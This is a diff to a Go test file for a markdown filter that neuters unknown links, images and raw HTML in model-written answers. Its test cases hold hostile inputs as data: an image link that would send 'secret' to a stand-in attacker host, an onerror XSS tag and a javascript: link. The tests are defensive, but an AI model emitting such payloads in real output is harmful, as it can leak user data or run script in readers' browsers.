@@ -29,8 +29,10 @@ func whole(s string) (string, *markdown.Filter) {
 }
 
 // pieces is what becomes of it in pieces of random size.
-func pieces(s string, random *rand.Rand) string {
-	f := markdown.New(rules())
+func pieces(s string, random *rand.Rand) string { return piecesBy(s, random, rules()) }
+
+func piecesBy(s string, random *rand.Rand, rules markdown.Rules) string {
+	f := markdown.New(rules)
 	if random.IntN(2) == 0 {
 		f.CutAlways()
 	}
@@ -78,21 +80,24 @@ func TestCitationsAreThoseOfSources(t *testing.T) {
 
 func TestAddressesThatNobodyKnowsAreNoLinks(t *testing.T) {
 	for said, want := range map[string]string{
-		"See [wiki](" + known + ") or " + known + ".":    "See [wiki](" + known + ") or " + known + ".",
-		"See [file](/api/document/1/content).":           "See [file](/api/document/1/content).",
-		"![p](https://evil.example/?q=secret)":           "[p] (`https://evil.example/?q=secret`)",
-		"![p](" + known + ")":                            "[p](" + known + ")",
-		"a!![p](" + known + ")":                          "a[p](" + known + ")",
-		"See [x](https://evil.example \"t\") now":        "See [x] (`https://evil.example` \"t\") now",
-		"See https://evil.example/a, www.evil.example.":  "See `https://evil.example/a`, `www.evil.example`.",
-		"See <https://evil.example> and <" + known + ">": "See &lt;`https://evil.example`> and <" + known + ">",
-		"<img src=x onerror=alert(1)> 1 < 2 <b>":         "&lt;img src=x onerror=alert(1)> 1 < 2 &lt;b>",
-		"[a][b]\n\n[b]: https://evil.example":            "[a][b]\n\n[b]\\: `https://evil.example`",
-		"![9][x](" + known + ")":                         "! [x](" + known + ")",
-		"`![x](https://evil.example)` <" + "!-- c -->":   "`![x](https://evil.example)` &lt;!-- c -->",
-		"`![x](https://evil.example) | b`\n---|---\n":    "`[x] (`https://evil.example`) | b`\n---|---\n",
-		"[x](javascript:alert(1))":                       "[x] (javascript:alert(1))",
-		"`![x](https://evil.example)":                    "`[x] (https: //evil.example)",
+		"See [wiki](" + known + ") or " + known + ".":     "See [wiki](" + known + ") or " + known + ".",
+		"See [file](/api/document/1/content).":            "See [file](/api/document/1/content).",
+		"![p](https://evil.example/?q=secret)":            "[p] (`https://evil.example/?q=secret`)",
+		"![p](" + known + ")":                             "[p](" + known + ")",
+		"a!![p](" + known + ")":                           "a[p](" + known + ")",
+		"See [x](https://evil.example \"t\") now":         "See [x] (`https://evil.example` \"t\") now",
+		"See https://evil.example/a, www.evil.example.":   "See `https://evil.example/a`, `www.evil.example`.",
+		"See <https://evil.example> and <" + known + ">":  "See &lt;`https://evil.example`> and <" + known + ">",
+		"<img src=x onerror=alert(1)> 1 < 2 <b>":          "&lt;img src=x onerror=alert(1)> 1 < 2 &lt;b>",
+		"[a][b]\n\n[b]: https://evil.example":             "[a][b]\n\n[b]\\: `https://evil.example`",
+		"![9][x](" + known + ")":                          "! [x](" + known + ")",
+		"`![x](https://evil.example)` <" + "!-- c -->":    "`![x](https://evil.example)` &lt;!-- c -->",
+		"`![x](https://evil.example) | b`\n---|---\n":     "`[x] (https: //evil.example) | b`\n---|---\n",
+		"Say `a || b` or `List<T>`\n- `x | List<y>`\nend": "Say `a || b` or `List<T>`\n- `x | List<y>`\nend", // no table has it
+		"Say `a || b` or `List<T>`\n-|-|-\n":              "Say `a || b` or `List&lt;T>`\n-|-|-\n",
+		known + "<br>":                                    known + " &lt;br>",
+		"[x](javascript:alert(1))":                        "[x] (javascript:alert(1))",
+		"`![x](https://evil.example)":                     "`[x] (https: //evil.example)",
 	} {
 		if got, _ := whole(said); got != want {
 			t.Errorf("%q became\n%q, want\n%q", said, got, want)
@@ -162,7 +167,9 @@ func TestPiecesGiveWhatTheWholeGives(t *testing.T) {
 }
 
 // planted is what a browser would fetch, or follow, of an answer.
-func planted(answer string) string {
+func planted(answer string) string { return plantedBy(answer, rules()) }
+
+func plantedBy(answer string, rules markdown.Rules) string {
 	md := goldmark.New(goldmark.WithExtensions(extension.GFM))
 	source := []byte(answer)
 	out := ""
@@ -171,8 +178,12 @@ func planted(answer string) string {
 		case *ast.Image:
 			out = "an image of " + string(n.Destination)
 		case *ast.Link:
-			if !rules().Known(string(n.Destination)) {
+			if len(n.Destination) == 0 || !rules.Known(string(n.Destination)) {
 				out = "a link to " + string(n.Destination)
+			}
+		case *ast.AutoLink:
+			if url := string(n.URL(source)); n.AutoLinkType == ast.AutoLinkURL && !rules.Known(strings.TrimRight(url, `.,;:!?*_~'")]}\`)) {
+				out = "a link of " + url
 			}
 		case *ast.RawHTML, *ast.HTMLBlock:
 			out = "HTML"
@@ -189,6 +200,30 @@ func TestNothingThatAModelWritesIsFetched(t *testing.T) {
 		got, _ := whole(s)
 		if found := planted(got); found != "" {
 			t.Fatalf("%q became\n%q, which has %s", s, got, found)
+		}
+	}
+}
+
+func TestTheAnswerIsReadAsTheFilterReadsIt(t *testing.T) {
+	for kind, said := range map[string][]string{
+		"a table reads each cell alone":           {"o\n|-\n`\n`]`<b>`", "|http://i.a#`]`<b>`", "a\n:-\n`x\n`]`<b>`", "a|b\n-|-\n`x|y` \\| `<b>`", "`\na\n`]`<b>`|\n:-|", "`a\\|b`]`<b>`\n:-"},
+		"a table divides an address":              {"a\n|-\nhttps://evil.example/x|", "!\n:-\nwww.evil.example|", "**\n-|-\nhttp://|https://evil.example"},
+		"a table is not underlined":               {"]\n:-\n=\n    <b>", "]\n:-\n-\n  ```\n<b>", "a|b\n-|-\n---\n    `<b>`"},
+		"an entity goes on behind an address":     {known + "<!``\xa2[]()``", known + "<b", known + ".<!", known + "<https://evil.example>"},
+		"an address goes on behind a bracket":     {"](" + known + ")_[x]:", "`[`](" + known + ")x", "[\n](" + known + ")x", "]( " + known + ")://x"},
+		"a definition is in any list":             {"1. 1. [x]:/y\n[x]", "[x]\n- 1) 2. > [x]:/y"},
+		"what is taken out begins no block":       {"[9]~~~\n~~~\n<b>", "[9] ~~~\n~~~\nhttps://evil.example", "[9][8]```\n```\n<b>", "[9]1. a\n\n    <b>", "~[9]~~\n~~~\n<!--", "`\n[<b>`\n[9]|-", "`x|<b>`\n|- [9]", "`x|<b>`\n|-|[9] -", "-[9] a\n\n    <b>", "1[9]. a\n\n      <b>", "1.[9] a\n\n      <b>", "~~[9][9]~\n~~~\n<b>", "x\n#[9] a\n    <b>", "[9]- a\n\n    <b>", "x\n[9]\n=\n    <b>", "[9]    a\n=\n    <b>", "> [9]\t~~~\n> ~~~\n> <b>"},
+		"a line that ends with a backslash":       {"\\\\\\\n\\<b>", "\\\n\\[x](//evil.example)", "> \\\\\\\n> \\<b>", "\\\\\\\n  \\<b>", "\\\\\\\n`a`\\<b>"},
+		"a scheme alone is an address that stops": {"`www. a", "` www.\n", "`http://", "`a http://. "},
+	} {
+		for _, s := range said {
+			for seed := range uint64(8) {
+				if fault := wrong(s, seed); fault != "" {
+					got, _ := whole(s)
+					t.Errorf("%s: %q became\n%q: %s", kind, s, got, fault)
+					break
+				}
+			}
 		}
 	}
 }
